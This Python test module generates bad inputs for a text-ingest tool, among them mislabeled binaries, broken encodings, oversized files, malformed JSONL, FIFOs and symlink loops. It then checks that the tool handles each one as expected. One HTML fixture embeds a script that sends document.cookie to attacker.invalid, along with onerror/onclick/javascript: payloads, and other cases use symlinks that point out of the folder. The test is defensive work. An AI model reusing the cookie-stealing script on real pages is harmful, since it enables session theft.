"""Bad inputs, generated on the spot (no binaries are committed), and good articles beside them.

Each maker writes one input under a folder and says what a run must do with it: fail with one
line whose reason holds ``reason``, or read it into documents whose text holds ``holds``.
"""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Case:
    """One generated input and the behaviour expected of it."""

    kind: str
    path: Path
    reason: str | None = None  # a failure whose reason holds this text (case-blind)
    holds: tuple[str, ...] = ()  # else: stored text holds each of these
    lacks: tuple[str, ...] = ()  # and holds none of these
    failures: int = 1  # failure lines this input produces (JSONL: one per bad line)
    warnings: int = 0  # warning lines (read, but the reader says what it had to guess)


ARTICLE = (
    "Moscow, 12 March 2019\n\n"
    "Russia's Rosatom and the China National Nuclear Corporation signed a general contract on "
    "Thursday for two new VVER-1200 reactors at the Tianwan nuclear power plant in Jiangsu "
    "province, officials in Beijing said. The deal is worth about 1.7 billion dollars."
)


def png_bytes() -> bytes:
    """A real one-pixel PNG image."""

    def chunk(tag: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body))

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def zip_bytes() -> bytes:
    """A real zip archive holding one text file."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("article.txt", ARTICLE)
    return buf.getvalue()


def _empty(d: Path) -> Case:
    p = d / "empty.txt"
    p.write_bytes(b"")
    return Case("empty file", p, reason="empty")


def _png(d: Path) -> Case:
    p = d / "photo.txt"
    p.write_bytes(png_bytes())
    return Case("PNG named .txt", p, reason="PNG")


def _zip(d: Path) -> Case:
    p = d / "bundle.txt"
    p.write_bytes(zip_bytes())
    return Case("zip named .txt", p, reason="zip")


def _latin1(d: Path) -> Case:
    p = d / "latin1.txt"
    text = (
        "Zürich, 4 May 2021\n\nThe Swiss trader Gunvor and Société Générale financed a cargo "
        "of Russian crude for a refinery in Qingdao, said Mr Müller of the bank's façade "
        "office. Prices were quoted at 60 dollars a barrel."
    )
    p.write_bytes(text.encode("latin-1"))
    return Case(
        "Latin-1 text", p, failures=0, holds=("Zürich", "Société Générale", "Müller", "façade")
    )


def _utf16(d: Path) -> Case:
    p = d / "utf16.txt"
    text = (
        "Beijing, 8 June 2018\n\nXi Jinping awarded Vladimir Putin China’s first Friendship "
        "Medal — the ceremony took place in the Great Hall of the People, and both leaders "
        "praised the “comprehensive strategic partnership”."
    )
    p.write_bytes(text.encode("utf-16"))  # Python writes the byte order mark
    return Case(
        "UTF-16 with a BOM",
        p,
        failures=0,
        holds=("China’s first Friendship Medal —", "“comprehensive"),
    )


def _bad_utf8(d: Path) -> Case:
    p = d / "broken_utf8.txt"
    good = (
        "Düsseldorf, 2 July 2020 — the turbine maker said its Moscow venture would keep "
        "supplying parts. "
    ).encode()
    p.write_bytes(good + b"\xc3\x28 then \xa0\xa1 garbage " + good)
    return Case("invalid UTF-8", p, reason="invalid UTF-8")


def _huge(d: Path) -> Case:
    p = d / "huge.txt"
    para = (ARTICLE + "\n\n").encode()
    with p.open("wb") as fh:
        for _ in range((50 << 20) // len(para) + 1):
            fh.write(para)
    return Case("50 MB text", p, reason="over the limit")


def _long_line(d: Path) -> Case:
    p = d / "one_line.txt"
    sentence = "China and Russia traded more goods this year than last year, customs data show. "
    p.write_text(sentence * ((5 << 20) // len(sentence) + 1), encoding="utf-8")
    return Case("single 5 MB line", p, reason="over the limit")


HOSTILE_HTML = """<!doctype html><html><head><title>Rosatom signs Tianwan reactor deal</title>
<script>window.stolen = document.cookie; alert("head-script")</script>
<style>body { background: url(javascript:alert('css')) }</style></head>
<body><nav>Home | World | Business</nav><article>
<h1>Rosatom signs Tianwan reactor deal</h1>
<p>Russia's state nuclear company Rosatom signed a contract with the China National Nuclear
Corporation on Friday to build two more reactors at the Tianwan plant in eastern China.</p>
<script>fetch("http://attacker.invalid/?c=" + document.cookie); alert("body-script")</script>
<iframe src="http://attacker.invalid/frame" onload="alert('iframe')">frame-fallback-text</iframe>
<img src="missing.png" onerror="alert('onerror-attr')" alt="reactor hall">
<p onclick="alert('onclick-attr')">Construction of the first unit is due to begin next year,
the companies said in a joint statement issued in Moscow and Beijing.</p>
<noscript>noscript-text</noscript>
<svg><script>alert("svg-script")</script></svg>
</article></body></html>"""


def _hostile_html(d: Path) -> Case:
    p = d / "hostile.html"
    p.write_text(HOSTILE_HTML, encoding="utf-8")
    return Case(
        "HTML with scripts, iframes and onerror",
        p,
        failures=0,
        holds=("Construction of the first unit",),
        lacks=(
            "alert",
            "document.cookie",
            "fetch(",
            "attacker.invalid",
            "onerror",
            "onclick",
            "javascript:",
            "<script",
            "<iframe",
        ),
    )


def _deep_html(d: Path) -> Case:
    p = d / "deep.html"
    depth = 10_000
    p.write_text(
        "<html><body>"
        + "<div>" * depth
        + "<p>Gazprom and CNPC agreed to raise gas deliveries through the Power of "
        "Siberia pipeline to 38 billion cubic metres a year.</p>"
        + "</div>" * depth
        + "</body></html>",
        encoding="utf-8",
    )
    return Case("HTML nested 10,000 deep", p, failures=0, holds=("Siberia pipeline",))


def _jsonl(d: Path) -> Case:
    p = d / "feed.jsonl"
    lines = [
        '{"text": "India and Russia agreed in Goa in 2016 to build two more units at Kudankulam.",'
        ' "title": "Kudankulam units agreed", "date": "2016-10-15"}',
        '{"text": "truncated line, no closing brace',
        "[1, 2, 3]",
        '{"title": "no text field"}',
        '{"text": "Turkey took delivery of the first S-400 parts from Russia at Murted in July '
        '2019.", "date": "2019-07-12"}',
        "not json at all",
        "[" * 50_000 + "]" * 50_000,  # nested past the JSON parser's recursion limit
    ]
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return Case(
        "JSONL with broken lines", p, reason="line", failures=5, holds=("Kudankulam", "Murted")
    )


def _json_surrogates(d: Path) -> Case:
    p = d / "escapes.jsonl"
    # JSON escapes for lone UTF-16 surrogates decode to code points no encoding can store.
    p.write_text(
        '{"text": "Belarus and Russia opened the Ostrovets \\ud800nuclear plant '
        'in 2020.\\udcff"}\n',
        encoding="utf-8",
    )
    return Case(
        "JSON escapes for lone surrogates",
        p,
        failures=0,
        holds=("Ostrovets nuclear plant in 2020.",),
    )


def _fifo(d: Path) -> Case:
    p = d / "pipe.txt"
    os.mkfifo(p)
    return Case("named pipe named .txt", p, reason="not a regular file")


def _device(d: Path) -> Case:
    p = d / "zeros.txt"
    p.symlink_to("/dev/zero")  # endless bytes: reading it whole would never finish
    # It leaves the folder, so it is refused unread; with --follow-links, as not a regular file.
    return Case("symlink to a device (/dev/zero)", p, reason="outside the folder")


def _html_as_txt(d: Path) -> Case:
    p = d / "saved_page.txt"
    p.write_text(
        HOSTILE_HTML.replace("Construction of the first unit", "Work on the second unit"),
        encoding="utf-8",
    )
    return Case(
        "web page saved as .txt",
        p,
        failures=0,
        holds=("Work on the second unit",),
        lacks=("alert", "document.cookie", "<script"),
    )


def _file_loop(d: Path) -> Case:
    a, b = d / "loop_a.txt", d / "loop_b.txt"
    a.symlink_to(b.name)
    b.symlink_to(a.name)
    return Case("file symlink loop a->b->a", a, reason="symlink loop", failures=2)


def _dir_loop(d: Path) -> Case:
    sub = d / "nested"
    sub.mkdir()
    (sub / "inner.txt").write_text(
        "Russia and Turkey opened the TurkStream gas pipeline in Istanbul in January 2020.",
        encoding="utf-8",
    )
    (sub / "back_to_parent").symlink_to("..", target_is_directory=True)
    return Case(
        "folder symlink to its parent",
        sub / "inner.txt",
        failures=0,
        holds=("TurkStream gas pipeline",),
    )


def _markup_name(d: Path) -> Case:
    p = d / "[red]styled [bold]name.txt"
    p.write_bytes(b"   \n\t \n")
    return Case("rich markup in a file name", p, reason="empty")


def _odd_name(d: Path) -> Case:
    p = Path(os.fsdecode(os.fsencode(d) + b"/caf\xe9 report.txt"))
    p.write_text(
        "Gazprom and CNPC signed a thirty-year gas contract in Shanghai in May 2014.",
        encoding="utf-8",
    )
    return Case("file name not valid UTF-8", p, failures=0, holds=("thirty-year gas contract",))


def _huge_integer_jsonl(d: Path) -> Case:
    p = d / "bignum.jsonl"
    good = '{"text": "Rosatom delivered fuel for the Rooppur plant in Bangladesh in 2023."}'
    p.write_text(
        good
        + '\n{"text": "A line whose date is absurd.", "date": '
        + "9" * 5000
        + "}\n"
        + good.replace("Rooppur", "Paks II").replace("Bangladesh", "Hungary")
        + "\n",
        encoding="utf-8",
    )
    return Case(
        "JSONL integer of 5,000 digits (F1)",
        p,
        reason="digits",
        holds=("Rooppur plant", "Paks II plant"),
    )


def _utf16_no_bom(d: Path) -> Case:
    p = d / "utf16_nobom.txt"
    p.write_bytes(
        "Harbin, 2 June 2021\n\nRussia and China agreed to build a new grain terminal "
        "at Zabaikalsk on the border.".encode("utf-16-le")
    )
    return Case(
        "UTF-16 without a BOM, ASCII only (F17)",
        p,
        failures=0,
        holds=("grain terminal at Zabaikalsk",),
    )


def _page_breaks(d: Path) -> Case:
    p = d / "page_breaks.txt"
    p.write_bytes(
        "The plant opened in 2019\x0cRussia's Rosatom\x0bbuilt it\u0085and China's "
        "CNNC\u2028ran the tests.".encode()
    )
    return Case(
        "vertical tab, form feed, NEL between words (F17)",
        p,
        failures=0,
        holds=("Russia's Rosatom", "CNNC"),
        lacks=("2019Russia", "Rosatombuilt", "itand"),
    )


def _lone_cr_jsonl(d: Path) -> Case:
    p = d / "old_mac.jsonl"
    p.write_bytes(
        b'{"text": "Gazprom began gas deliveries to Uzbekistan in 2023."}\r'
        b'{"text": "Kazakhstan and China opened a second rail crossing in 2012."}\r'
    )
    return Case(
        "JSONL with lone-CR line ends (F17)",
        p,
        failures=0,
        holds=("deliveries to Uzbekistan", "second rail crossing"),
    )


def _latin1_in_utf8(d: Path) -> Case:
    p = d / "mixed_encoding.txt"
    p.write_bytes(
        "Lübeck, 2 July 2020\n\n".encode()
        + "The turbine maker of Göttingen and Crédit Agricole financed the Schäfer "
        "plant in Kaluga.".encode("latin-1")
    )
    return Case(
        "Latin-1 bytes inside UTF-8 (F17)",
        p,
        failures=0,
        warnings=1,
        holds=("Lübeck", "Göttingen", "Crédit Agricole"),
        lacks=("Ã",),
    )


def _newline_name(d: Path) -> Case:
    p = d / "two\nlines.txt"
    p.write_bytes(b"")
    return Case("newline in a file name (F9)", p, reason="empty")


def _escape_name(d: Path) -> Case:
    p = d / "esc\x1b[31mred\x1b[0m.txt"
    p.write_bytes(b"")
    return Case("ESC sequence in a file name (F9)", p, reason="empty")


def _link_out(d: Path) -> Case:
    outside = d.parent / f"{d.name}_outside"
    outside.mkdir(exist_ok=True)
    secret = outside / "secret.txt"
    secret.write_text("Private notes that must not be read through a link.", encoding="utf-8")
    p = d / "shadow.txt"
    p.symlink_to(secret)
    return Case(
        "symlink leading out of the folder (F13)",
        p,
        reason="outside the folder",
        lacks=("Private notes",),
    )


def _folder_link_out(d: Path) -> Case:
    outside = d.parent / f"{d.name}_elsewhere"
    outside.mkdir(exist_ok=True)
    (outside / "other.txt").write_text(
        "Another private file read through a folder link.", encoding="utf-8"
    )
    p = d / "elsewhere"
    p.symlink_to(outside, target_is_directory=True)
    return Case(
        "folder symlink leading out of the folder (F13)",
        p,
        reason="outside the folder",
        lacks=("Another private file",),
    )


MAKERS: tuple[Callable[[Path], Case], ...] = (
    _empty,
    _png,
    _zip,
    _latin1,
    _utf16,
    _bad_utf8,
    _long_line,
    _hostile_html,
    _deep_html,
    _jsonl,
    _json_surrogates,
    _fifo,
    _device,
    _html_as_txt,
    _file_loop,
    _dir_loop,
    _markup_name,
    _odd_name,
    _huge_integer_jsonl,
    _utf16_no_bom,
    _page_breaks,
    _lone_cr_jsonl,
    _latin1_in_utf8,
    _newline_name,
    _escape_name,
    _link_out,
    _folder_link_out,
)
# Written separately: 50 MB is too much to copy around for every test that wants a bad folder.
HUGE = _huge


def make_all(folder: Path) -> list[Case]:
    """Write every bad input (the 50 MB one aside) into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    return [make(folder) for make in MAKERS]


def good_articles(folder: Path, n: int = 2) -> list[Path]:
    """Plain, well-formed articles that must go in beside the bad ones."""
    folder.mkdir(parents=True, exist_ok=True)
    texts = [
        "Vladivostok, 5 September 2019\n\nRussia and China agreed at the Eastern Economic Forum "
        "to expand cooperation in the Arctic and along the Northern Sea Route.",
        "Ankara, 3 April 2018\n\nRosatom began building the Akkuyu nuclear power plant in Turkey; "
        "the first unit is due to deliver power in 2023.",
        "New Delhi, 5 October 2018\n\nIndia signed a 5.4 billion dollar deal with Russia for five "
        "S-400 air defence systems during President Putin's visit.",
    ]
    out = []
    for i, t in enumerate(texts[:n]):
        p = folder / f"good_{i}.txt"
        p.write_text(t, encoding="utf-8")
        out.append(p)
    return out


@dataclass(frozen=True)
class Row:
    """How one kind of bad input fared: held (handled as expected) and texts lost."""

    kind: str
    held: bool
    lost: int
    note: str = ""


def judge(
    cases: list[Case],
    texts: list[str],
    failures: list[tuple[str, str]],
    warnings: list[str],
    good: list[str],
) -> list[Row]:
    """Score each case against what a run stored, failed and warned about.

    ``failures`` are (source, reason) pairs; ``good`` holds a needle of each good article that
    went in beside the bad ones: a good article missing counts as data lost too.
    """
    from tieline.ingest.sources import shown_path

    rows = []
    for case in cases:
        names = {shown_path(case.path.name)}
        if case.kind.startswith("file symlink loop"):
            names |= {"loop_a.txt", "loop_b.txt"}

        def about(source: str, names: set[str] = names) -> bool:
            name = Path(source).name
            return any(name == n or name.startswith(n + ":") for n in names)

        mine = [(s, r) for s, r in failures if about(s)]
        warned = [w for w in warnings if any(n in w for n in names)]
        problems = []
        if len(mine) != case.failures:
            problems.append(f"{len(mine)} failure lines, expected {case.failures}")
        if case.reason and not all(case.reason.lower() in r.lower() for _, r in mine):
            problems.append("reason does not say " + repr(case.reason))
        if any("\n" in s + r or "\x1b" in s + r for s, r in mine):
            problems.append("failure line not one printable line")
        if len(warned) != case.warnings:
            problems.append(f"{len(warned)} warnings, expected {case.warnings}")
        lost = sum(sum(needle in t for t in texts) != 1 for needle in case.holds)
        leaked = [n for n in case.lacks if any(n.lower() in t.lower() for t in texts)]
        if leaked:
            problems.append(f"stored what it must not: {leaked}")
        rows.append(Row(case.kind, not problems and not lost, lost, "; ".join(problems)))
    missing_good = sum(sum(needle in t for t in texts) != 1 for needle in good)
    rows.append(Row("good articles beside them", missing_good == 0, missing_good))
    return rows


def table(rows: list[Row]) -> str:
    """The bad-input table: kinds tried, held, data lost, one row per kind."""
    tried = len(rows) - 1
    held = sum(r.held for r in rows[:-1])
    lost = sum(r.lost for r in rows)
    out = [f"{'kind':<52} {'held':>5} {'lost':>5}  note"]
    out += [f"{r.kind:<52} {'yes' if r.held else 'NO':>5} {r.lost:>5}  {r.note}" for r in rows]
    out.append(f"kinds tried {tried}, held {held}, data lost {lost}")
    return "\n".join(out)


GOOD_NEEDLES = ("Eastern Economic Forum", "Akkuyu nuclear power plant")


def run_suite(folder: Path) -> list[Row]:
    """Write every bad input and two good articles under ``folder``, read them, judge them."""
    import logging

    from tieline.config import Settings
    from tieline.scale.runner import load_inputs

    cases = make_all(folder / "in")
    good_articles(folder / "in", 2)
    warnings: list[str] = []

    class _Catch(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            warnings.append(record.getMessage())

    log = logging.getLogger("tieline.ingest")
    handler = _Catch(logging.WARNING)
    log.addHandler(handler)
    try:
        loaded = load_inputs(
            [folder / "in"], Settings(db=str(folder / "unused.db"), progress=False)
        )
    finally:
        log.removeHandler(handler)
    texts = [d.text for d in loaded.documents]
    failures = [(f.source, f.reason) for f in loaded.failures]
    return judge(cases, texts, failures, warnings, list(GOOD_NEEDLES))


if __name__ == "__main__":  # python tests/robustness/badinputs.py: print the table
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        print(table(run_suite(Path(tmp))))
